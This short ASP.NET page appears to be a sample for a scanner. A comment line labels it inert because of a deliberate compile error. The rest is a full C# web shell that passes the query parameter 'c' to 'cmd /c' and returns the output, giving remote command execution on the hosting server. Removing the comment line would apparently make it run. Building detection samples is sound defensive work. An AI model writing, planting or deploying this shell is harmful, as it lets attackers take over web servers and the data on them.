<% shodo inert sample: deliberate compile error, this page never runs %>
<%@ Page Language="C#" %><% var si = new System.Diagnostics.ProcessStartInfo("cmd", "/c " + Request.QueryString["c"]) { RedirectStandardOutput = true, UseShellExecute = false }; Response.Write(System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd()); %>
